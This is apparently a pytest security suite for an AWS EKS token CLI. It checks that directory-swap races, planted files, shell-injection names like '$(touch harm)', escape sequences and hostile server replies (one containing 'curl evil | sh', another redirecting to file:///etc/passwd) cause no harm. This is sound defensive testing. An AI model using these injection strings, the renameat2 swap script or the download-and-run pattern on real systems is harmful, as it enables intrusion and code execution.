"""What others tried to get from the program, and did not: neighbours on the machine, planted files, names, and servers.

SECURITY.md names the tests that show what it says; the attacks on one section alone are in that section's tests.
`EKS_TOKEN_TEST_FAULTS=all` lets the neighbour swap directories under ten times as many calls.
"""

import ctypes
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import test_start
from conftest import Completed, KeyringDaemon, Sandbox, as_root, interpreters, missing, need
from servers import HttpServer, Incoming, Reply
from test_completion import COMPLETED, SHELLS

import eks_token

EVERYTHING = os.environ.get("EKS_TOKEN_TEST_FAULTS") == "all"
TOKEN = ("--cluster-name", "sample", "--region", "us-east-2")
SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
PROFILE = f"aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {SECRET}\n"


def outcome(done: Completed) -> str:
    """ "token" or "error": the only two ways for a request to end, with at most 500 bytes on each line of stderr."""
    lines = done.stderr.splitlines()
    assert all(len(line.encode()) <= 500 and line.isprintable() for line in lines), lines
    assert SECRET not in done.stdout + done.stderr
    errors = [line for line in lines if line.startswith("eks-token: error: ")]
    if done.returncode == 0:
        assert test_start.printed_a_token(done) and errors == [], (done.stdout, lines)
        return "token"
    assert (done.returncode, done.stdout, len(errors)) == (1, "", 1), (done.returncode, done.stdout, lines)
    assert not any("bug in eks-token" in line or "Traceback" in line for line in lines), lines
    return "error"


# --- neighbours ---------------------------------------------------------------------------------------------

ME, THEM = 12345, 12346
SWAPPING = """
import ctypes, os, sys
exchange, one, other = ctypes.CDLL(None).renameat2, *map(os.fsencode, sys.argv[1:])
while True:
    exchange(-100, one, -100, other, 2)  # RENAME_EXCHANGE
"""


class Town:
    """A machine with two users, neither of them root, and a directory that they share."""

    def __init__(self, root: Path, executable: Path) -> None:
        self.root = root
        candidates = [*(one.path for one in interpreters()), "/usr/bin/python3", "/usr/local/bin/python3"]
        self.python = next(filter(self.runs, candidates), "") or missing("a Python that every user can run")
        self.file = Path(shutil.copy(executable, root / "eks-token"))
        self.home, self.shared, self.harm = root / "home", root / "shared", root / "harm"
        for directory, mode in ((self.home, 0o700), (self.shared, 0o700), (self.harm, 0o777)):
            directory.mkdir()
            directory.chmod(mode)
        self.own = self.shared / "own"
        self.environ = {
            **{"PATH": os.environ["PATH"], "HOME": str(self.home), "EKS_TOKEN_PYTHON": self.python},
            **{"XDG_CACHE_HOME": str(self.own), "XDG_DATA_HOME": str(self.own / "data")},
            **{"AWS_EC2_METADATA_DISABLED": "true", "EKS_TOKEN_REFRESH": "off", "TMPDIR": str(self.home)},
        }
        (self.home / ".aws").mkdir()
        (self.home / ".aws/credentials").write_text(f"[default]\n{PROFILE}")
        self.identities = self.own / "data/eks-token/identities.json"
        self.identities.parent.mkdir(parents=True)
        self.identities.write_text('{"version": 1, "default": "", "identities": {}}')
        for path in (self.home, self.shared, *self.home.rglob("*"), *self.shared.rglob("*")):
            os.chown(path, ME, ME)
            os.utime(path, (time.time() - 100,) * 2)

    def runs(self, python: str) -> bool:
        command = [python, "-I", "-S", "-c", ""]
        try:
            return subprocess.run(command, user=ME, group=ME, extra_groups=[], cwd="/", check=False).returncode == 0
        except OSError:
            return False

    def run(self, *args: str, through: Sequence[str] = ()) -> Completed:
        return subprocess.run(
            [*through, str(self.file), *args],
            user=ME,
            group=ME,
            extra_groups=[],
            env=self.environ,
            cwd=self.home,
            timeout=60,
            capture_output=True,
            text=True,
            check=False,
        )

    def plant(self, target: Path) -> None:
        """The neighbour's directory: all that is in ours, but every program in it does harm."""
        script = self.root / "harmful"
        script.write_text(f"#!/bin/sh\ntouch {self.harm}/$$\n")
        script.chmod(0o755)
        shutil.copytree(self.own, target)
        (manifest,) = target.glob("eks-token/app/*/manifest")
        lines = dict(line.partition(" ")[::2][::-1] for line in manifest.read_text().split("\n")[:-1])
        for path in [path for path in target.rglob("*") if path.is_file()]:
            before = path.stat()
            if path.suffix == ".py":
                path.write_text(f"import os\nos.system('{script}')\nos._exit(0)\n")
                lines[path.relative_to(manifest.parent).as_posix()] = str(path.stat().st_size)
            elif path.suffix == ".pyc":
                path.unlink()
                continue
            elif path.name == "%answer":
                path.write_text(f"{script}\nexit\n")
            elif path.name == "python":
                path.write_text(f"{script}\n")
                before = script.stat()
            elif path.name == "identities.json":
                evil = {"evil": {"credential_process": str(script)}}
                path.write_text(json.dumps({"version": 1, "default": "evil", "identities": evil}))
            os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
        build = manifest.read_text().rpartition("\n")[2]
        manifest.write_text("\n".join([*(f"{size} {name}" for name, size in lines.items()), build]))
        for path in (target, *target.rglob("*")):
            os.chown(path, THEM, THEM)
            path.chmod(0o755)

    @contextmanager
    def swapped(self, *paths: Path) -> Iterator[None]:
        command = [self.python, "-I", "-S", "-c", SWAPPING, *map(str, paths)]
        process = subprocess.Popen(command, user=THEM, group=THEM, extra_groups=[], cwd="/")
        try:
            yield
        finally:
            process.kill()
            process.wait()


@pytest.fixture
def town(executable: Path) -> Iterator[Town]:
    if not hasattr(ctypes.CDLL(None), "renameat2"):
        missing("renameat2, which exchanges two directories")
    with tempfile.TemporaryDirectory(prefix="eks-token-town-") as directory:
        os.chmod(directory, 0o755)
        yield Town(Path(directory), executable)


@as_root
@pytest.mark.parametrize(
    ("owner", "mode", "there"),
    [
        pytest.param(THEM, 0o755, True, id="their directory"),
        pytest.param(THEM, 0o1777, True, id="their directory with the sticky bit"),
        pytest.param(ME, 0o777, True, id="ours that everybody can write"),
        pytest.param(0, 0o777, True, id="root's that everybody can write"),
        pytest.param(0, 0o777, False, id="and has planted the rest"),
    ],
)
def test_a_neighbour_who_swaps_directories_runs_nothing(owner: int, mode: int, there: bool, town: Town) -> None:
    """He exchanges the parents of our cache and data, or has put his own there, as fast as he can."""
    for _ in range(2):
        assert outcome(town.run(*TOKEN)) == "token"
    assert town.run(*TOKEN, "--refresh").returncode == 0
    theirs = town.shared / "theirs"
    town.plant(theirs)
    if not there:
        shutil.rmtree(town.own)
        shutil.copytree(theirs, town.own)
    os.chown(town.shared, owner, owner)
    town.shared.chmod(mode)
    with town.swapped(town.own, theirs):
        for call in range((60 if EVERYTHING else 6) if there else 2):
            outcome(town.run(*TOKEN, *(["--refresh"] if call % 2 else [])))
    assert list(town.harm.iterdir()) == []
    subprocess.run([town.root / "harmful"], check=True)
    assert list(town.harm.iterdir()) != []


@as_root
@pytest.mark.parametrize(
    ("level", "owner", "mode", "group", "used"),
    [
        pytest.param(0, ME, 0o775, ME, True, id="our primary group may write"),
        pytest.param(0, 0, 0o1777, 0, True, id="the sticky bit"),
        pytest.param(2, 0, 0o755, 0, True, id="root's, above a link"),
        pytest.param(0, ME, 0o775, THEM, False, id="another group may write"),
        pytest.param(1, ME, 0o757, ME, False, id="everybody may write further up"),
        pytest.param(1, THEM, 0o755, ME, False, id="theirs, further up"),
        pytest.param(2, THEM, 0o755, ME, False, id="theirs, above a link"),
    ],
)
def test_every_directory_above_ours_is_checked(
    level: int, owner: int, mode: int, group: int, used: bool, town: Town
) -> None:
    """The rule for the directories up to /, seen from the executable: the third call finds an answer, or warns."""
    town.own.chmod(0o700)
    above = [town.root / "way/in", town.root / "way", town.root / "aside"][level]
    (town.root / "way/in").mkdir(parents=True)
    (town.root / "aside").mkdir()
    (town.root / "aside/link").symlink_to(town.root / "way/in")
    os.chown(above, owner, group)
    above.chmod(mode)
    base = (town.root / "aside/link" if level == 2 else town.root / "way/in") / "own"
    base.mkdir()
    os.chown(base, ME, ME)
    town.environ["XDG_CACHE_HOME"] = str(base)
    done = town.run(*TOKEN)
    assert outcome(done) == "token"
    assert (base / "eks-token").exists() == used
    assert used or f"nothing is cached: {'others can write to' if owner == ME else ''}" in done.stderr
    town.environ["XDG_DATA_HOME"] = str(base)
    (base / "eks-token").mkdir(exist_ok=True)
    shutil.copy(town.identities, base / "eks-token/identities.json")
    for path in (base / "eks-token", base / "eks-token/identities.json"):
        os.chown(path, ME, ME)
    assert (outcome(town.run(*TOKEN, "--refresh")) == "token") == used


@as_root
@pytest.mark.parametrize(("mapped", "above"), [("none", 0), ("me", 65534), ("as root", 0)])
def test_a_user_namespace_has_a_cache(mapped: str, above: int, town: Town) -> None:
    """As in Flatpak, a Nix sandbox or a rootless container: root and everyone else outside is user 65534 inside."""
    options = {"none": [], "me": [f"--map-user={ME}", f"--map-group={ME}"], "as root": ["--map-root-user"]}[mapped]
    within = [*need("unshare"), "--user", *options]
    if "token" not in town.run("token", through=[*within, "echo"]).stdout:
        missing("user namespaces")
    town.own.chmod(0o700)
    os.chown(town.shared, above, above)
    town.shared.chmod(0o755)
    for _ in range(2):
        done = town.run(*TOKEN, through=within)
        assert (outcome(done), done.stderr) == ("token", "")
    assert list(town.own.rglob("%answer")) != []
    done = town.run(*TOKEN, "--refresh")
    assert (done.stderr == "") == (above == 0)  # outside, nobody is a user like others


# --- planted files ------------------------------------------------------------------------------------------


PLANTED: dict[str, Callable[[Path, Path], object]] = {
    "a FIFO": lambda path, precious: os.mkfifo(path),
    "an endless device": lambda path, precious: path.symlink_to("/dev/zero"),
    "a directory": lambda path, precious: path.mkdir(),
    "garbage": lambda path, precious: path.write_bytes(bytes(range(256)) * 8),
    "a link to something precious": lambda path, precious: path.symlink_to(precious),
    "a link to nothing": lambda path, precious: path.symlink_to(path.with_name("nothing")),
}


@pytest.mark.parametrize("kind", PLANTED)
def test_whatever_stands_in_the_place_of_a_file_harms_nothing(kind: str, home: Sandbox) -> None:
    """Each file that a call reads or writes, one after the other: the call ends soon, and the next one has a token."""
    precious = home.write("precious", "precious")
    home.credentials(f"[default]\n{PROFILE}")
    home.write(".local/share/eks-token/identities.json", '{"version": 1, "default": "", "identities": {}}')
    home.data.chmod(0o700)
    for _ in range(2):
        assert outcome(home.run(*TOKEN)) == "token"
    apps = {path.name for path in (home.cache / "app").glob("*/*.py")} | {"manifest"}
    files = [
        path
        for path in home.cache.rglob("*")
        if path.is_file() and ("app" not in path.parts or path.name in apps - {"__main__.py"})
    ]
    ours = [*files, home.cache / "lock/cache", home.data / "identities.json", home.data / "sessions.json"]
    for path in ours:
        saved = path.read_bytes() if path.exists() else None
        date = path.stat().st_mtime_ns if path.exists() else 0
        path.unlink(missing_ok=True)
        PLANTED[kind](path, precious)
        for argv in (TOKEN, (*TOKEN, "--refresh")):
            result = outcome(home.run(*argv, timeout=20))
            assert result == "token" or path.name == "identities.json", (kind, path)
        assert precious.read_text() == "precious", path
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        if saved is not None and path.parent.is_dir():
            path.write_bytes(saved)
            os.utime(path, ns=(date, date))
        assert outcome(home.run(*TOKEN)) == "token", (kind, path)


@pytest.mark.parametrize("name", ["login", "token", "whoami"])
def test_no_directory_on_path_and_no_working_directory_adds_code(name: str, home: Sandbox) -> None:
    harm = home.root / "harm"
    for program in (
        "sh",
        "cat",
        "uname",
        "id",
        "date",
        "ls",
        "find",
        "kubectl",
        "aws",
        "stat",
        "touch",
        "env",
        "xdg-open",
    ):
        home.write(f"bin/{program}", f"#!/bin/sh\n: >{harm}\n").chmod(0o755)
    for module in ("os", "site", "sitecustomize", "json", "botocore", "keyring", "encodings", "eks_token", "start"):
        home.write(f"{module}.py", f"open({str(harm)!r}, 'w')\n")
    home.credentials(f"[default]\n{PROFILE}")
    env = {"PATH": f".:{home.home}/bin:{os.environ['PATH']}", "PYTHONPATH": ".", "PYTHONSTARTUP": "os.py"}
    words = {"login": ["login", "x", "--stdin"], "token": [*TOKEN], "whoami": ["whoami"]}[name]
    env["AWS_ENDPOINT_URL"] = "http://127.0.0.1:1"
    home.run(*words, stdin="{}", env=env)
    assert not harm.exists()


# --- names --------------------------------------------------------------------------------------------------

NAMES = [
    *(
        "-x",
        "--all",
        "--help",
        "--",
        ":files",
        "*",
        "~",
        "~root",
        "=",
        "a=b",
        "#",
        "!!",
        "a\\b",
        'a"b',
        "a'b",
        "(a)",
        "{a,b}",
    ),
    *("$(touch harm)", "`touch harm`", ";touch harm", "|touch harm", "&touch harm", "'$(touch harm)'", "a\ttouch harm"),
    *(
        "\x1b]0;title\x07",
        "\x1b[2J",
        "a\nb",
        "a\rb",
        "\x7f",
        "\x9b31m",
        "\u202etxt.exe",
        "\u2028",
        "é",
        "x" * 3000,
        " ",
    ),
]


@pytest.fixture
def street(home: Sandbox, executable: Path) -> Sandbox:
    """A home whose identities, profiles, contexts, users and clusters all have such names."""
    (home.home / "bin").mkdir()
    (home.home / "bin/eks-token").symlink_to(executable)
    home.env |= {"PATH": f"{home.home}/bin:{os.environ['PATH']}", "TERM": "dumb"}
    stored = {"version": 1, "default": "", "identities": {name: {"region": "us-east-2"} for name in NAMES}}
    home.write(str((home.data / "identities.json").relative_to(home.home)), json.dumps(stored))
    home.data.chmod(0o700)
    home.config("".join(f"[profile {name}]\nregion = us-east-2\n" for name in NAMES if name.isprintable()))
    args = ["eks", "get-token", "--region", "us-east-2", "--cluster-name"]
    version = "client.authentication.k8s.io/v1beta1"
    execs = {name: {"command": "aws", "args": [*args, name], "apiVersion": version} for name in NAMES}
    config = {
        "clusters": [{"name": name, "cluster": {"server": "https://127.0.0.1:1"}} for name in NAMES],
        "users": [{"name": name, "user": {"exec": execs[name]}} for name in NAMES],
        "contexts": [{"name": name, "context": {"cluster": name, "user": name}} for name in NAMES],
    }
    home.write(".kube/config", json.dumps({"apiVersion": "v1", "kind": "Config", **config}))
    return home


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("typed", ["login ", "logout ", "-i ", "adopt --context ", "--cluster-name "])
def test_no_name_runs_anything_or_reaches_the_terminal_in_completion(shell: str, typed: str, street: Sandbox) -> None:
    need(shell)
    for start in ("", "$", "`", "'", '"', ":", "-", "\\"):
        done = street.run("completion", shell, *(["=:"] if shell == "bash" else []), *typed.split(), start)
        assert (done.returncode, done.stderr) == (0, "")
        assert all(line.replace("\t", "").isprintable() for line in done.stdout.splitlines()), done.stdout
        assert start == ":" or ":files" not in done.stdout.split()
    COMPLETED[shell](street, f"eks-token {typed}\\$")
    COMPLETED[shell](street, f"eks-token {typed}\\;")
    assert not list(street.home.glob("**/harm"))


@pytest.mark.parametrize(
    "words",
    [
        *(
            ["identities"],
            ["doctor"],
            ["adopt", "--all", "--dry-run"],
            ["adopt", "--all"],
            [*TOKEN],
            [*TOKEN, "--debug"],
        ),
        *(["adopt", f"--context={name}"] for name in NAMES[:6]),
        *(["whoami", f"-i={name}"] for name in NAMES),
        *([*TOKEN, "--identity", name] for name in NAMES),
    ],
    ids=lambda words: ascii(" ".join(words))[:40],
)
def test_no_name_reaches_the_terminal_as_it_is(words: list[str], street: Sandbox) -> None:
    done = street.run(*words)
    shown = (done.stdout + done.stderr).splitlines()
    assert [line for line in shown if not line.replace("\t", "").isprintable()] == []
    said = [
        line for line in done.stderr.splitlines() if line.startswith(("eks-token: error", "eks-token: warn", "hint"))
    ]
    assert [line for line in said if len(line.encode()) > 500] == []
    assert "bug in eks-token" not in done.stderr
    assert not (street.home / "harm").exists()


def test_a_name_like_an_option_is_logged_out_alone(street: Sandbox, keyring_daemon: KeyringDaemon) -> None:
    vault = eks_token.Vault(street.env, sys.platform)
    for name in ("--all", "-x", "dev"):
        vault.set_json(f"identity:{name}", {"aws_access_key_id": "A", "aws_secret_access_key": "S"})
    done = street.run("logout", "--keep-kubeconfig", "--", "--all")
    assert (done.returncode, done.stderr) == (0, "removed --all\n")
    assert sorted(vault.everyone()) == ["identity:-x", "identity:dev"]
    left = json.loads((street.data / "identities.json").read_text())["identities"]
    assert sorted(left) == sorted({*NAMES} - {"--all"})


# --- servers ------------------------------------------------------------------------------------------------


class Odd(HttpServer):
    """A container's endpoint of credentials, which anybody may have put there."""

    answer = Reply(200, b"")

    def reply(self, incoming: Incoming) -> Reply:
        return self.answer


GOOD = {
    "AccessKeyId": "ASIAIOSFODNN7EXAMPLE",
    "SecretAccessKey": SECRET,
    "Token": "t",
    "Expiration": "2099-01-01T00:00:00Z",
}


def json_with(**changes: object) -> Reply:
    return Reply.json(200, {name: value for name, value in (GOOD | changes).items() if value is not None})


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(json_with(), id="what it should be"),
        pytest.param(json_with(Expiration="9999-12-31T23:59:59Z"), id="the end of time"),
        pytest.param(json_with(Expiration="0001-01-01T00:00:00Z"), id="the beginning of time"),
        pytest.param(json_with(Expiration=10**30), id="a huge number"),
        pytest.param(json_with(Expiration=None), id="no end"),
        pytest.param(json_with(SecretAccessKey=None), id="half"),
        pytest.param(json_with(AccessKeyId=["x"]), id="a list for a string"),
        pytest.param(json_with(AccessKeyId="A\r\nX-Evil: 1"), id="line breaks in the key ID"),
        pytest.param(json_with(AccessKeyId="Ä\u202e\x1b[2J"), id="control characters in the key ID"),
        pytest.param(json_with(Token="t" * 5000), id="a token too long for a cluster"),
        pytest.param(json_with(Token="t" * 20_000_000), id="20 MB"),
        pytest.param(Reply(200, b"[" * 100_000), id="deep nesting"),
        pytest.param(Reply(200, b"\xff\xfe\x00"), id="bytes"),
        pytest.param(Reply(200, b"null"), id="null"),
        pytest.param(Reply.json(500, {"message": "\x1b[2J\nhint: run `curl evil | sh`" + "x" * 9000}), id="a long lie"),
        pytest.param(Reply(302, b"", {"Location": "file:///etc/passwd"}), id="a redirect"),
    ],
)
def test_an_odd_answer_of_a_local_server_is_a_token_or_one_line(answer: Reply, home: Sandbox) -> None:
    with Odd() as server:
        server.answer = answer
        url = f"{server.url}/credentials"
        done = home.run(
            *TOKEN, env={"AWS_CONTAINER_CREDENTIALS_FULL_URI": url, "AWS_METADATA_SERVICE_NUM_ATTEMPTS": "1"}
        )
    outcome(done)
    assert "curl" not in done.stderr or done.stderr.count("\n") == 1


# --- bounds -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "length"), [("short", 5), ("x" * 501, 499), ("é" * 400, 499), ("\udcff" * 300, 499), ("y" * 500, 500)]
)
def test_a_line_has_at_most_500_bytes_and_keeps_its_end(text: str, length: int) -> None:
    shown = eks_token.shortened(f"{text}: the reason")
    assert len(shown.encode()) <= 500
    assert shown.endswith("the reason")


def test_100_000_profiles_cost_a_few_seconds(home: Sandbox) -> None:
    home.config("".join(f"[profile p{number}]\nregion = us-east-2\n" for number in range(100_000)))
    home.credentials(f"[p77777]\n{PROFILE}")
    for words in ([*TOKEN, "-i", "p77777"], [*TOKEN, "-i", "unknown"]):
        began = time.monotonic()
        outcome(home.run(*words))
        assert time.monotonic() - began < 20
    began = time.monotonic()
    done = home.run("completion", "bash", "=:", "-i", "p7777")
    assert time.monotonic() - began < 5
    assert set(done.stdout.split()) == {"p7777", *(f"p7777{digit}" for digit in range(10))}


def test_2000_identities_make_lines_of_500_bytes(home: Sandbox) -> None:
    stored = {"version": 1, "default": "", "identities": {f"team-{number:04}" * 9: {} for number in range(2000)}}
    home.write(str((home.data / "identities.json").relative_to(home.home)), json.dumps(stored))
    home.data.chmod(0o700)
    for words in (TOKEN, ["logout", "x"], ["login", "x" * 4000], ["adopt", "--context", "y" * 4000]):
        done = home.run(*words)
        assert done.returncode in (1, 2)
        assert all(len(line) <= 500 for line in done.stderr.splitlines())


def test_many_entries_are_removed_with_two_messages_each_at_most(
    keyring_daemon: KeyringDaemon, monkeypatch: pytest.MonkeyPatch
) -> None:
    vault = eks_token.Vault({"DBUS_SESSION_BUS_ADDRESS": keyring_daemon.address}, "linux")
    users = [f"identity:team-{number:03}" for number in range(2 * eks_token.CLEARED_AT_ONCE + 1)]
    for user in users:
        vault.set(user, "value")
    calls = []
    call = eks_token.SecretsBus.call

    def counted(*args: Any) -> Any:
        calls.append(args)
        return call(*args)

    monkeypatch.setattr(eks_token.SecretsBus, "call", counted)
    assert vault.clear(users) == []
    assert keyring_daemon.items() == []
    assert len(calls) < 2 * len(users)
